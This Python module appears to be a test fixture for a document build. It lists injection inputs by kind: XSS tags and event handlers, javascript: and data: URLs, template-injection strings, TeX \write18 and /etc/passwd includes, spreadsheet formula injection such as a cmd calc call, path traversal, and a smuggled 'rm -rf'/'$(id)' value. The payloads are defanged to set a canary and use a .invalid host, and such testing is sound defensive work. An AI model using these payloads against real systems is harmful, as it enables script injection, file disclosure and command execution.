"""The attacks, as data, by kind.

Every piece of code in them does one thing: it sets ``canary`` on the window. Every element that they would make carries
the name ``x-canary`` or the attribute ``data-canary``, every address the word ``canary``, so that whoever opens a page
can tell whether anything of an attack came alive. The word may be followed by a number: that of the article.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping

BEAT = "self.canary=1"
ELSEWHERE = "http://canary.invalid/x"
RLO, LRO, PDF, RLI, PDI, ALM = "\u202e", "\u202d", "\u202c", "\u2067", "\u2069", "\u061c"
LONG = 100_000  # letters of a very long word

ATTACKS: Mapping[str, tuple[str, ...]] = {
    "elements": (
        "<x-canary>fett</x-canary>",
        '<b data-canary="1">fett</b><h1 data-canary="1">groß</h1>',
        "</p></div></article></main><x-canary>",
        f'<form data-canary="1" action="{ELSEWHERE}"><input data-canary="1" autofocus onfocus="{BEAT}"></form>',
        f'<iframe data-canary="1" src="{ELSEWHERE}"></iframe><base data-canary="1" href="{ELSEWHERE}/">',
        f'<meta data-canary="1" http-equiv="refresh" content="0;url={ELSEWHERE}">',
        f'<link data-canary="1" rel="stylesheet" href="{ELSEWHERE}.css">',
        '<style data-canary="1">*{display:none}</style>',
    ),
    "scripts": (
        f"<script>{BEAT}</script>",
        f"<SCRIPT/x>{BEAT}</SCRIPT>",
        f'"><script data-canary="1">{BEAT}</script>',
        f"'><script data-canary=1>{BEAT}</script>",
        f'<script data-canary="1" src="{ELSEWHERE}.js"></script>',
        f"</script><script>{BEAT}</script>",
        f"</style><script>{BEAT}</script>",
        f"</title><script>{BEAT}</script>",
        f"</textarea></noscript></template><script>{BEAT}</script>",
        f"<scr<script>ipt>{BEAT}</scr</script>ipt>",
        f"<noscript><p title=\"</noscript><img src=x onerror={BEAT}>\">",
    ),
    "svg": (
        f'<svg data-canary="1" onload="{BEAT}">',
        f'<svg data-canary="1"><script>{BEAT}</script></svg>',
        f'<svg data-canary="1"><animate onbegin="{BEAT}" attributeName="x" dur="1s"/></svg>',
        f'<math data-canary="1"><mtext><img src=x onerror="{BEAT}"></mtext></math>',
        f'</text><script data-canary="1">{BEAT}</script><text>',
        f"]]><script data-canary='1'>{BEAT}</script><![CDATA[",
    ),
    "handlers": (
        f'<img data-canary="1" src="x" onerror="{BEAT}">',
        f'" onmouseover="{BEAT}" data-canary="1" x="',
        f"' onfocus='{BEAT}' autofocus data-canary='1' x='",
        f'" autofocus tabindex=1 onfocus="{BEAT}" data-canary="1',
        f'<details open data-canary="1" ontoggle="{BEAT}"><summary>x</summary></details>',
        f'<body onload="{BEAT}" data-canary="1">',
        f"` onclick={BEAT} data-canary=1 `",
    ),
    "addresses": (
        f'<a data-canary="1" href="javascript:{BEAT}">hier</a>',
        f"[hier](javascript:{BEAT})",
        f"javascript:{BEAT}",
        f"java\tscript:{BEAT}",
        f"data:text/html,<script>{BEAT}</script>",
        f'<img data-canary="1" src="{ELSEWHERE}.png">',
        f"![Bild]({ELSEWHERE}.png)",
        f"<{ELSEWHERE}>",
        '<a data-canary="1" href="data:text/html;base64,PHNjcmlwdD4=">hier</a>',
    ),
    "entities": (
        f"&lt;script&gt;{BEAT}&lt;/script&gt;",
        f"&#60;script&#62;{BEAT}&#60;/script&#62;",
        f"&#x3c;img src=x onerror={BEAT}&#x3e;",
        "&amp;lt;x-canary&amp;gt;",
        "&&&amp &lt &#xZZ; &#99999999; &unbekannt;",
        "&quot; onmouseover=&quot;x-canary",
        "%3Cscript%3E",
        f"\\u003cscript\\u003e{BEAT}\\u003c/script\\u003e",
    ),
    "comments": (
        f"--><script>{BEAT}</script>",
        f"<!-- --!><img src=x onerror={BEAT} data-canary=1>",
        "<!--",
        "<!-- x -- y --- z",
        "]]>",
        "<![CDATA[ x ]]>",
        f"<?xml-stylesheet href='{ELSEWHERE}'?>",
        "<?php echo 1 ?>",
        "*/ // <!--",
    ),
    "myst": (
        "```{include} /etc/passwd\n```",
        f"```{{raw}} html\n<script>{BEAT}</script>\n```",
        f"```{{eval-rst}}\n.. raw:: html\n\n   <script>{BEAT}</script>\n```",
        "{claim}`corpus-articles`",
        "{claim}`gibt-es-nicht`",
        "{excerpt}`000:0-99`",
        "{fixed}`4711`",
        "```{made} colophon\n```",
        "{glue:text}`x` {doc}`x` {cite}`x`",
        "+++\n% Kommentar\n(ziel)=\n# Überschrift",
        ":::{note}\nHinweis\n:::",
        "---\nmyst: {html_meta: {x: y}}\n---",
        "|a|b|\n|-|-|\n|c|d|",
        "[^1]: Fußnote [^1] [[wiki]] **fett** __fett__ ~~weg~~",
    ),
    "rst": (
        f".. raw:: html\n\n   <script>{BEAT}</script>",
        ".. include:: /etc/passwd",
        ":ref:`x` :download:`x </etc/passwd>` |x|_ `x`__ :raw-html:`<x-canary>`",
        ".. |x| image:: x.png",
    ),
    "templates": (
        "{{ 7 * 7 }}{{ config }}",
        "{% include '/etc/passwd' %}{% raw %}",
        "{# x #} ${7*7} #{7*7} <%= 7*7 %>",
        "{0} {} {name!r} %s %(x)s %d %n",
        "\\1 \\g<0> $1 ${x} $$",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ),
    "tex": (
        "$\\frac{1}{0$",
        "$x$ und $$y$$ und \\(z\\)",
        "$\\undefined{x$ kostet 5$",
        "\\input{/etc/passwd}",
        "\\immediate\\write18{id}",
        "\\begin{equation} \\href{javascript:" + BEAT + "}{x} \\end{equation}",
        "$\\mathdefault{x}$ ^_~#%&{}\\",
    ),
    "bidi": (
        f"{RLO}txet retrhekegmu{PDF}",
        f"{RLO}nie edne enho txet",
        f"{LRO}{RLO}{RLO}x",
        f"{RLI}x{PDI}{PDI}{PDF}",
        f"{RLI}offen ohne Ende",
        f"{ALM}12-34{ALM}",
        "\u05d0\u05d1\u05d2 12 (34) \u05d3",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 1-2 %",
        "\u200e\u200f\u2066\u2068x",
    ),
    "controls": (
        "a\x00b",
        "a\x01\x02\x07\x08b",
        "a\x1b[31mrot\x1b[0m",
        "a\x0bb\x0cc\x1cd\x1ee",
        "a\x7f\x80\x85\x9fb",
        "a\u2028b\u2029c",
        "a\r\nb\rc\n\n\nd",
        "a\tb\t\tc",
        "\ufeffa\ufffeb\uffffc",
        "\ufff9a\ufffab\ufffbc",
        "\ue000\U000f0000\U0010ffff",
        "\U000e0041\U000e0042\U000e007f",
    ),
    "marks": (
        "\u0301",
        "\u0308x",
        "Z" + "\u0300\u0316\u0330" * 60,
        "e\u0301 \u00e9 \u00e9\u0301",
        "\u200da\u200bb\u200cc\u2060d\u00ade",
        "\u3164\u115f\u2800",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea\U0001f1e9",
        "\u1d400 \ufb01 \u2126 \u212b \uff21\uff22 \u0130\u0131\u017f\u1e9e",
    ),
    "formulas": (
        "=1+1",
        '=HYPERLINK("http://canary.invalid","x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '","=1+1","',
        '"=1+1',
        "'=1+1",
        ";=1+1;",
        "\uff1d1+1",
    ),
    "words": (
        "NaN", "nan", "None", "null", "NA", "<NA>", "inf", "-0", "1e999", "True", "__proto__", "constructor",
        "all", "comparison", "all together", "hasOwnProperty", "toString", "__class__", "undefined",
    ),
    "paths": (
        "../../x",
        "..\\..\\x",
        "/etc/passwd",
        "C:\\x",
        "CON",
        "aux.html",
        "%2e%2e%2f",
        "a/b/../c",
        "index.html#x?y=z&w",
        "file:///etc/passwd",
        "~/.ssh",
        "a;rm -rf x|y`id`$(id)",
        ".",
        "..",
        "-rf",
        "x.js",
        "_static/x",
    ),
}  # fmt: skip

# Ids that many systems take for one and the same.
ALIKE = (
    "Stra\u00dfe", "STRASSE", "strasse", "stra\u00dfe", "\u00e4", "a\u0308", "\u00c4", "A\u0308", "\u017ftadt", "stadt",
    "\u212bngstr\u00f6m", "\u00c5ngstr\u00f6m", "datei", "Datei", "datei.", "x\u200by", "xy",
)  # fmt: skip
# Ids that look like places in an article, or that a separator would tear apart.
TORN = (
    "a:0-5", "a:0-5:6-7", "a b", "a, b", "a|b", "a\tb", "a\nb", "a\x00b", "a\x1fb", "[1]", "0", "00", "1-2", "\u0661",
)  # fmt: skip

# What may not stand there at all, by column of a table: the build has to say so, and where.
REFUSED: Mapping[str, tuple[str, ...]] = {
    "date": (
        "2023-13", "2023-02-30", "0000", "23", "2023-1-1", "2023-01-01T00:00", "<script>", "2023\n", "=2023",
        "\uff12\uff10\uff12\uff13", "\u0662\u0660\u0662\u0663", "2023-07-28 ", "2023/07/28", "-2023", "99999", "$2023$",
    ),
    "url": (
        f"javascript:{BEAT}", f"data:text/html,<script>{BEAT}</script>", "ftp://x.org/", "//x.org/", "/etc/passwd", "x",
        "https://x.org/ onmouseover=x", "HTTPS", f" javascript:{BEAT}", "https://x.org/\nx", "vbscript:x", "http://",
        "https://canary.invalid/\x01", "https://canary.invalid/\x00", "https://canary.invalid/\x9f",
    ),
}  # fmt: skip
# Addresses that are allowed and try to leave the attribute they will stand in.
ADDRESSES = (
    f'https://canary.invalid/"onmouseover="{BEAT}"data-canary="1',
    f"https://canary.invalid/'onmouseover='{BEAT}'data-canary='1",
    f"https://canary.invalid/><script>{BEAT}</script>",
    "https://canary.invalid/`x`",
    "https://canary.invalid/\u202egnp.exe",
    "https://javascript:alert(1)@canary.invalid/%00%0a%0d",
    "https://canary.invalid/{{7*7}}{claim}`x`$x$",
    "https://canary.invalid/\u05d0\u05d1/12",
    "http://[::1]:99999/%zz?#&amp;&lt;",
    "https://canary.invalid/]]>--></script>",
    "https://canary.invalid/" + "x" * 5_000,
)


def all_attacks() -> Iterator[tuple[str, str]]:
    """Yield every attack with its kind."""
    for kind, some in ATTACKS.items():
        for attack in some:
            yield kind, attack
